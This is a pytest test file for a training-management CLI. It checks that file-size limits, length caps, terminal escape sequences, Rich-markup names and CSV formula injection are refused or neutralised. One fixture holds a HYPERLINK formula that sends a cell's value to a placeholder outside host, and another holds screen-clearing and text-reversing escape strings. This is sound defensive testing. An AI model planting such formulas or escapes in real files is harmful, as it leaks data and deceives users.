def test_a_file_read_whole_is_refused_past_its_limit_not_read_to_the_end(cli, snapshot, command):
    """These commands read their file whole: `member import --csv /dev/zero` grew to
    gigabytes and ended in a MemoryError (exit 70). They stop one byte past INPUT_LIMIT
    and say so (exit 65), writing nothing."""
    from trainctl.inputfile import INPUT_LIMIT

    cli("program", "create", "Academy")
    before = snapshot()
    r = cli(*command, ok=False)
    assert r.exit_code == 65, r
    assert f"/dev/zero is larger than {INPUT_LIMIT // 2**20} MiB" in r.stderr
    assert "nothing was written" in r.stderr and "Traceback" not in r.stderr
    assert snapshot() == before


REASON_CASES = [
    ("enroll hold", ["enroll", "hold", "1", "--reason"]),
    ("enroll withdraw", ["enroll", "withdraw", "1", "--reason"]),
    ("enroll fail", ["enroll", "fail", "1", "--reason"]),
    ("member deactivate", ["member", "deactivate", "ann@fd.org", "--reason"]),
    ("progress update --note", ["progress", "update", "--member", "ann@fd.org", "--requirement", "Drill hours",
                                "--add", "1", "--note"]),
    ("progress update --waive --reason", ["progress", "update", "--member", "ann@fd.org", "--requirement",
                                          "Drill hours", "--waive", "--reason"]),
    ("progress update --note alone", ["progress", "update", "--member", "ann@fd.org", "--requirement",
                                      "Drill hours", "--note"]),
]  # fmt: skip


@pytest.mark.parametrize(("bad", "text"), [
    ("h\x1b[31mRED\x1b[0m", "contains a control character (U+001B)"),
    ("x" * 100_000, "is 100,000 characters long; at most 500 are allowed"),
    ("a\u202eb", "text-direction override"),
])  # fmt: skip
@pytest.mark.parametrize("args", [c[1] for c in REASON_CASES], ids=[c[0] for c in REASON_CASES])
def test_a_typed_reason_or_note_is_checked_as_a_voids_is(dept, snapshot, args, bad, text):
    """A void's --reason refused an ESC sequence and a page of text; a hold's, a withdrawal's,
    a deactivation's reason and a ledger note were stored raw and printed raw by enroll show,
    member show and progress log (review). One rule: domain/text.check_reason."""
    dept("requirement", "add", "--name", "Drill hours", "--type", "hours", "--hours", "4", "--frequency",
         "annual", "--counts-type", "drill")
    dept("program", "create", "Ops", "--structure", "flexible")
    dept("program", "requirement", "add", "Ops", "Drill hours")
    dept("program", "activate", "Ops")
    dept("enroll", "add", "ann@fd.org", "Ops")
    before = snapshot()
    r = dept(*args, bad, ok=False)
    assert r.exit_code == 65, r
    assert text in r.stderr and args[-1] in r.stderr, r
    assert "\x1b" not in r.stderr and len(r.stderr) < 2_000
    assert snapshot() == before


def test_a_requirement_named_like_rich_markup_heads_the_compliance_matrix_as_typed(dept):
    """A requirement named "[/]" ended `report compliance` in exit 70 (Rich read the
    matrix's column heads as markup: "closing tag '[/]' has nothing to close"), and one
    named "[red]Hazmat" headed its column "Hazmat", in red. Names print as typed."""
    for name in ("[/]", "[red]Hazmat"):
        dept("requirement", "add", "--name", name, "--type", "hours", "--hours", "2", "--frequency",
             "annual", "--counts-type", "drill")
    r = dept("--as-of", "2026-06-01", "report", "compliance")
    assert "[/]" in r.stdout and "[red]Hazmat" in r.stdout, r


def test_nremt_worksheet_prints_category_and_topic_names_as_typed(dept):
    """A department copy of an NREMT level whose hour categories or topics look like Rich
    markup ("[/]") ended `report nremt` in exit 70; "[red]local" lost its brackets."""
    dept("import", "nremt")
    dept("member", "edit", "ann@fd.org", "--add-position", "emt", "--certification-date", "2025-01-01",
         "--effective", "2025-01-01")
    dept("requirement", "add", "--from", "NREMT-EMT", "--name", "Our EMT", "--hour-categories",
         '[{"name": "national", "min_hours": 20, "topics": [{"name": "[/]", "min_hours": 2}]},'
         ' {"name": "[red]local", "min_hours": 10}]')
    dept("--as-of", "2026-06-01", "record", "add", "ann@fd.org", "--course", "Airway", "--hours", "3",
         "--category", "national")
    r = dept("--as-of", "2026-06-01", "report", "nremt", "ann@fd.org", "--level", "Our EMT")
    assert "[red]local" in r.stdout and "[/] 0/2" in r.stdout, r


@pytest.mark.parametrize("args", [["member", "import", "--csv"], ["record", "import"], ["enroll", "bulk", "1", "--csv"]],
                         ids=["member import", "record import", "enroll bulk"])  # fmt: skip
def test_unknown_columns_are_named_by_their_start_and_counted_not_printed_back(enrollable, snapshot, tmp_path, args):
    """A header cell of 100,000 characters was printed back whole (100 KB on the terminal),
    and a file of 100,000 columns (a data dump, not a sheet) listed every one of them
    (1 MB): as a long value is, each is named by its start and length, and past 20 the
    rest are counted."""
    before = snapshot()
    for body, says in (
        (b"email," + b"x" * 100_000 + b"\nbo@fd.org,1\n", "'" + "x" * 60 + "'… (100,000 characters)"),
        ((",".join(f"c{i}" for i in range(500)) + "\n" + ",".join("1" * 500) + "\n").encode(),
         "'c18', 'c19' and 480 more"),
    ):
        f = tmp_path / "dump.csv"
        f.write_bytes(body)
        r = enrollable(*args, str(f), ok=False)
        assert r.exit_code == 65, r
        assert says in r.stderr and "unknown column" in r.stderr, r
        assert len(r.stderr) < 3_000, len(r.stderr)
    assert snapshot() == before


@pytest.mark.parametrize(("args", "says"), [
    (["requirement", "add", "--name", "R" * 10_000, "--type", "hours", "--hours", "2"],
     "--name: must be at most 200 characters (got 'RRRR"),
    (["requirement", "add", "--name", "R", "--type", "certification", "--credential", "C" * 10_000],
     "--credential: must be at most 500 characters"),
    (["requirement", "add", "--name", "R", "--type", "hours", "--hours", "2", "--registry", "X", "--code", "C" * 41],
     "--code: must be at most 40 characters"),
    (["requirement", "add", "--name", "R", "--type", "hours", "--hours", "2", "--description", "d" * 4001],
     "--description: must be at most 4000 characters"),
    (["requirement", "add", "--name", "R" * 10_000 + "\x1b", "--type", "hours", "--hours", "2"],
     "(got 'RRRR"),
    (["requirement", "edit", "1", "--name", "N" * 201], "--name: must be at most 200 characters"),
], ids=["name", "credential", "code", "description", "a long name with an escape", "edit: name"])  # fmt: skip
def test_a_requirement_takes_the_lengths_every_catalog_takes(dept, snapshot, args, says):
    """`requirement add` took a name of 10,000 characters (a member's, course's, program's
    or skill's stops at 200), which then headed a column of the compliance matrix and a
    reminder's subject line; and its refusals printed a long value back whole (30 KB).
    Names 200, codes 40, other text 500, a description 4,000, as programs; a long value is
    named by its start and length."""
    dept("requirement", "add", "--name", "Drill hours", "--type", "hours", "--hours", "4", "--frequency",
         "annual", "--counts-type", "drill")
    before = snapshot()
    r = dept(*args, ok=False)
    assert r.exit_code == 65, r
    assert says in r.stderr, r
    assert len(r.stderr) < 1_000, r.stderr[:300]
    assert snapshot() == before


def test_a_text_on_file_longer_than_the_lengths_does_not_stop_an_edit_of_another_field(dept, db, snapshot):
    """A database of before the lengths may hold a 4,500-character description: an edit of
    the hours was refused on the description it does not touch. Only what an edit gives is
    held to the lengths; the description stays as it was."""
    dept("requirement", "add", "--name", "Drill hours", "--type", "hours", "--hours", "4", "--frequency",
         "annual", "--counts-type", "drill")
    long = "Older text. " * 375  # 4,500 characters, written before the limit
    db.execute("UPDATE requirement SET description = :d, name = :n", {"d": long, "n": "D" * 250})
    dept("requirement", "edit", "D" * 250, "--hours", "3")
    row = db.one("SELECT required_hours, description, name FROM requirement")
    assert (row[0], row[1], row[2]) == (3, long, "D" * 250)
    before = snapshot()  # what the edit gives is held to them
    r = dept("requirement", "edit", "D" * 250, "--description", "x" * 4001, ok=False)
    assert r.exit_code == 65 and snapshot() == before, r


_ESCAPES = "\x1b[2J\x1b[31mX\u202e"  # clear the screen, red, then a right-to-left override


@pytest.mark.parametrize(("args", "code"), [
    (["program", "show", _ESCAPES], 1),
    (["enroll", "add", "ann@fd.org", _ESCAPES], 1),
    (["enroll", "list", "--program", _ESCAPES], 1),
    (["report", "compliance", "--position", _ESCAPES], 2),
    (["requirement", "list", "--position", _ESCAPES], 2),
    (["record", "add", "--position", _ESCAPES, "--course", "Drill", "--hours", "1"], 1),
    (["requirement", "add", "--name", "X", "--type", "hours", "--hours", "1", "--position", _ESCAPES], 65),
], ids=["program show", "enroll add", "enroll list --program", "report compliance --position",
        "requirement list --position", "record add --position", "requirement add --position"])  # fmt: skip
def test_a_program_or_position_typed_with_terminal_escapes_is_named_escaped(dept, snapshot, args, code):
    """A member or requirement that names nobody is named escaped ('\\x1b[2J...'); a program
    or a position was printed as typed, so an ESC sequence cleared the officer's screen and
    a direction override turned the rest of the line around. Named escaped now, as they are."""
    before = snapshot()
    r = dept(*args, ok=False)
    assert r.exit_code == code, r
    assert "\x1b" not in r.stderr and "\u202e" not in r.stderr, r
    assert "'\\x1b[2" in r.stderr, r
    assert snapshot() == before


@pytest.mark.parametrize("args", [["record", "import"], ["member", "import", "--csv"]], ids=["record", "member"])
def test_a_reject_file_guards_formulas_and_imports_back_as_it_was(dept, tmp_path, snapshot, args):
    """A reject file is made to be opened in Excel and fixed, and it wrote the rows as they
    were: a member cell typed into a sign-in form as =HYPERLINK(...) (or @SUM, +, -) ran
    as a formula there. Its cells now take the one rule of every CSV trainctl writes (an
    apostrophe before a formula); imported again, the rows read as they were given."""
    formula = '=HYPERLINK("http://x.example/?"&B2,"Open")'
    if args[0] == "record":
        body = f'email,course,date,hours\nann@fd.org,Drill,2026-03-04,1\n"{formula.replace(chr(34), 2 * chr(34))}",Drill,2026-03-04,1\n@SUM(A1),-Drill,2026-03-04,1\n'
    else:
        body = f'name,email\nGood One,good@fd.org\n"{formula.replace(chr(34), 2 * chr(34))}",+x\n-Bad,@bad\n'
    sheet = tmp_path / "sheet.csv"
    sheet.write_text(body)
    r = dept("--as-of", "2026-12-31", *args, str(sheet), "--skip-invalid", ok=False)
    assert r.exit_code == 65, r
    import csv as csv_module

    rejects = tmp_path / "sheet.rejects.csv"
    cells = [c for row in csv_module.reader(rejects.read_text("utf-8-sig").splitlines()[1:]) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
    assert "'" + formula in cells, cells
    before = snapshot()
    again = dept("--as-of", "2026-12-31", *args, str(rejects), ok=False)  # the same two rows, refused again
    assert again.exit_code == 65 and "2 of 2 rows" in again.stderr, again
    assert not any(f"\"'{c}" in again.stderr for c in "=+-@"), again  # read as given, not "'=..."
    assert snapshot() == before


@pytest.mark.parametrize("key", ["\x1b[2J\u202eevil", "k" * 100_000], ids=["escapes", "100,000 characters"])
@pytest.mark.parametrize("where", ["program file", "registry file", "--hour-categories", "--reminders"])
def test_a_key_that_is_no_field_is_named_escaped_and_by_its_start(dept, snapshot, tmp_path, where, key):
    """A key that is not a field of a program or registry file (or of --hour-categories,
    --reminders) was printed as it was read: an ESC sequence written as \\u001b in the
    JSON cleared the officer's screen, and a key of 100,000 characters came back whole.
    Named as every echoed value is now: escaped, by its start and length when long."""
    import json

    if where == "program file":
        f = tmp_path / "p.json"
        f.write_text(json.dumps({"name": "P", key: 1}))
        args = ["program", "apply", "--file", str(f)]
    elif where == "registry file":
        f = tmp_path / "r.json"
        f.write_text(json.dumps({"registry": "X", "description": "d", "edition": "1", key: 1, "requirements": []}))
        args = ["import", "registry", str(f)]
    elif where == "--hour-categories":
        args = ["requirement", "add", "--name", "H", "--type", "hours", "--hours", "2", "--hour-categories",
                json.dumps([{"name": "a", key: 1}])]  # fmt: skip
    else:
        args = ["program", "create", "Q", "--reminders", json.dumps({key: 1})]
    before = snapshot()
    r = dept(*args, ok=False)
    assert r.exit_code == 65, r
    assert "is not a field here" in r.stderr or "not permitted" in r.stderr or "Extra" in r.stderr, r.stderr[:500]
    assert "\x1b" not in r.stderr and "\u202e" not in r.stderr, r.stderr[:500]
    assert len(r.stderr) < 2_000, r.stderr[:500]
    assert snapshot() == before


def test_a_reject_file_keeps_a_badge_written_as_excels_text_literal(dept, tmp_path):
    """A sheet exported from Excel writes a badge with leading zeros as ="0042", which every
    import reads as 0042. A row rejected for its hours went to the reject file as '="0042"
    (guarded as a formula), and the fixed reject file was refused: "no member has the badge
    '="0042"'". Excel's text literal runs nothing: it is kept as it was, and imports back."""
    dept("member", "add", "Zed Oh", "--email", "zed@fd.org", "--badge", "0777", "--hire-date", "2015-01-01")
    sheet = tmp_path / "sheet.csv"
    sheet.write_text('badge,course,date,hours\n="0777",Drill,2026-03-04,1\n="0777",Drill,2026-03-05,abc\n')
    r = dept("--as-of", "2026-12-31", "record", "import", str(sheet), "--skip-invalid", ok=False)
    assert r.exit_code == 65 and "1 added, 1 rejected" in r.stderr, r
    rejects = tmp_path / "sheet.rejects.csv"
    text = rejects.read_text("utf-8-sig")
    assert '"=""0777""",Drill,2026-03-05,abc' in text, text
    rejects.write_text(text.replace(",abc", ",2"), encoding="utf-8-sig")
    dept("--as-of", "2026-12-31", "record", "import", str(rejects))
    rows = dept("record", "list", "--member", "zed@fd.org", "--format", "json").json
    assert sorted(r["completion_date"] for r in rows) == ["2026-03-04", "2026-03-05"], rows
